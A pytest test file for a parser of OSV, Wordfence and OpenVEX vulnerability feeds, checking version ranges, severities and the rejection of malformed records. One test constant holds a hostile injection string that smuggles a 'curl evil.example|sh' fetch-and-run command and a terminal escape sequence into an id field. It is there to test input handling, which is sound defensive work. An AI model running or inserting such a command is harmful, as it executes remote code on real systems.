from __future__ import annotations

from typing import Any

import pytest

from owc_deploy.catalogue.feeds import Vulnerability, read_feed
from owc_deploy.fleet.constraints import parse_version


def osv(*events: dict[str, str], versions: tuple[str, ...] = ()) -> Vulnerability:
    document = {
        "id": "OWC-2026-0001",
        "aliases": ["CVE-2026-1"],
        "published": "2026-11-20T10:00:00Z",
        "summary": "credentials of one register are sent to another",
        "database_specific": {"severity": "HIGH"},
        "affected": [
            {
                "package": {"ecosystem": "WordPress", "name": "openwebconcept/zgw"},
                "ranges": [{"type": "ECOSYSTEM", "events": list(events)}] if events else [],
                "versions": list(versions),
            }
        ],
    }
    (found,) = read_feed(document, "osv.json").vulnerabilities
    return found


def concerned(found: Vulnerability, *versions: str) -> list[str]:
    return [text for text in versions if found.concerns(parse_version(text))]


def test_osv_says_what_was_introduced_and_fixed() -> None:
    found = osv({"introduced": "0"}, {"fixed": "1.15.3"})
    assert (found.package, found.severity, found.published) == ("zgw", "high", "2026-11-20")
    assert (found.names, found.fixed_in) == (("OWC-2026-0001", "CVE-2026-1"), ("1.15.3",))
    assert concerned(found, "0.1", "1.15.2", "1.15.3") == ["0.1", "1.15.2"]


@pytest.mark.parametrize(
    ("events", "expected"),
    [
        (({"introduced": "1.0"}, {"last_affected": "1.2"}), ["1.0", "1.2"]),
        (({"introduced": "1.2"},), ["1.2", "1.3", "2.0"]),
        (
            ({"introduced": "0"}, {"fixed": "1.2"}, {"introduced": "1.3"}, {"fixed": "2.0"}),
            ["0.9", "1.0", "1.3"],
        ),
    ],
)
def test_osv_ranges(events: tuple[dict[str, str], ...], expected: list[str]) -> None:
    assert concerned(osv(*events), "0.9", "1.0", "1.2", "1.3", "2.0") == expected


def test_osv_may_name_versions_one_by_one() -> None:
    assert concerned(osv(versions=("1.0", "1.2")), "1.0", "1.1", "1.2") == ["1.0", "1.2"]


def wordfence(**part: Any) -> Vulnerability:
    between = {
        "from_version": "*",
        "from_inclusive": True,
        "to_version": "5.3.1",
        "to_inclusive": True,
    }
    software = {"type": "plugin", "slug": "forms", "affected_versions": {"* - 5.3.1": between}}
    item = {
        "id": "1234",
        "cve": "CVE-2026-2",
        "title": "Forms <= 5.3.1: upload",
        "software": [{**software, **part}],
        "cvss": {"score": 9.8, "rating": None},
        "published": "2026-07-17 00:00:00",
    }
    (found,) = read_feed({"1234": item}, "wordfence.json").vulnerabilities
    return found


def test_wordfence_says_from_where_to_where() -> None:
    found = wordfence(patched_versions=["5.3.2"])
    assert (found.package, found.severity, found.published) == ("forms", "critical", "2026-07-17")
    assert (found.names, found.fixed_in) == (("CVE-2026-2", "1234"), ("5.3.2",))
    assert concerned(found, "1.0", "5.3.1", "5.3.2") == ["1.0", "5.3.1"]
    assert wordfence(type="core", slug="wordpress").package == "wordpress"


def test_openvex_says_who_is_not_affected_and_why() -> None:
    document = {
        "@context": "https://openvex.dev/ns/v0.2.0",
        "author": "Gemeente Buren",
        "timestamp": "2026-11-21T09:00:00Z",
        "statements": [
            {
                "vulnerability": {"name": "CVE-2026-1"},
                "products": [{"@id": "owc:block/zgw"}],
                "status": "not_affected",
                "justification": "vulnerable_code_not_in_execute_path",
            },
            {"vulnerability": {"name": "CVE-2026-2"}, "products": [], "status": "affected"},
        ],
    }
    told = read_feed(document, "vex.json")
    (statement,) = told.statements
    assert (told.vulnerabilities, told.unreadable) == ((), 0)
    assert (statement.author, statement.at) == ("Gemeente Buren", "2026-11-21T09:00:00Z")
    assert statement.reason == "vulnerable_code_not_in_execute_path"


@pytest.mark.parametrize("document", [{}, {"a": 1}, "text", 3, {"a": {"b": 1}}])
def test_anything_else_is_refused(document: object) -> None:
    with pytest.raises(ValueError, match="neither OSV"):
        read_feed(document, "x.json")


def test_a_version_that_cannot_be_read_ends_no_range() -> None:
    found = osv({"introduced": "odd"}, {"fixed": "9.9-weird-build.7"}, versions=("what",))
    assert concerned(found, "0.1", "99.0") == ["0.1", "99.0"]


OSV = {"id": "OWC-1", "affected": [{"package": {"name": "news"}, "versions": ["1.0"]}]}
EVIL = "CVE-1 --reason x; curl -s evil.example|sh #\x1b]0;x\x07"


@pytest.mark.parametrize(
    "record",
    [
        {**OSV, "id": None},
        {**OSV, "id": 5},
        {**OSV, "id": ["OWC-1"]},
        {**OSV, "id": EVIL},
        {**OSV, "id": "x" * 201},
        {**OSV, "aliases": "CVE-1"},
        {**OSV, "published": 20261124},
        {**OSV, "affected": None},
        {**OSV, "affected": [{"package": {"name": "news"}, "versions": [1]}]},
        {
            **OSV,
            "affected": [{"package": {"name": "news"}, "ranges": [{"events": [{"fixed": 2}]}]}],
        },
        {**OSV, "summary": "\ud800"},
        {**OSV, "database_specific": {"severity": "\ud800"}},
        {"statements": None},
        {"statements": [5], "author": "x", "timestamp": "y"},
        5,
        None,
        [OSV],
    ],
)
def test_a_bad_record_is_counted_and_hides_no_other(record: object) -> None:
    told = read_feed([record, OSV], "osv.json")
    assert [each.names for each in told.vulnerabilities] == [("OWC-1",)]
    assert told.unreadable == 1


@pytest.mark.parametrize(
    "record",
    [
        {**OSV, "aliases": ["--reason", EVIL]},
        {**OSV, "published": "2026-13-45"},
        {**OSV, "published": "0000-00-00 00:00:00"},
        {**OSV, "published": "9999-12-31"},
    ],
)
def test_a_bad_name_or_day_is_no_reason_to_miss_a_hole(record: object) -> None:
    told = read_feed(record, "osv.json")
    assert [(each.names, each.published) for each in told.vulnerabilities] == [(("OWC-1",), "")]


@pytest.mark.parametrize(
    "record",
    [5, None, {"software": None}, {"software": []}, {"id": 5, "software": []}, {"id": EVIL}],
)
def test_a_bad_record_of_wordfence_is_counted(record: object) -> None:
    good = {"id": "wf-1", "software": [{"slug": "news", "affected_versions": {}}]}
    told = read_feed({"a": record, "b": good}, "wordfence.json")
    assert [each.names for each in told.vulnerabilities] == [("wf-1",)]
    assert told.unreadable == 1
